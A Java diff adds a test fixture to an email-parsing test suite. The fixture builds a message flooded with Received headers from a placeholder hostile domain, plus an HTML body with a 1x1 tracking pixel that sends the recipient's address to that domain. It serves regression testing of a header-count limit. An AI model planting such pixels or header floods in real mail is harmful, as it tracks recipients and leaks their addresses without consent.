@@ -179,6 +179,24 @@ public final class HostileMessages {
         return o.ascii("Content-Type: text/plain\r\n\r\nbody\r\n").toByteArray();
     }
 
+    /**
+     * {@code count} {@code Received} fields before From, To, Subject, Date and Message-ID, as a hostile sender or a
+     * long relay chain writes them, then an HTML body whose open pixel carries the recipient's address (issue 17:
+     * past the header-count limit, From, To and Date used to be dropped).
+     */
+    public static byte[] paddedHeaders(int count) {
+        Out o = new Out(count * 110 + 2048);
+        for (int i = 0; i < count; i++) {
+            o.ascii("Received: from relay" + i + ".exemple-hostile.org ([10.0." + (i / 256 % 256) + "." + (i % 256)
+                    + "]) by mx.example.org with ESMTP id r" + i + "; Tue, 3 Mar 2026 09:15:00 +0100\r\n");
+        }
+        o.ascii(HEADERS).ascii("Message-ID: <padded@exemple-hostile.org>\r\n")
+                .ascii("Content-Type: text/html; charset=utf-8\r\n\r\n")
+                .ascii("<p>Bonjour</p><img src=\"https://pixel.exemple-hostile.org/open.gif?"
+                        + "u=camille.durand@example.org\" width=\"1\" height=\"1\">\r\n");
+        return o.toByteArray();
+    }
+
     /** An HTML message whose body is {@code html} (8bit, UTF-8), after the usual headers. */
     public static byte[] html(String html) {
         return html(HEADERS, html);
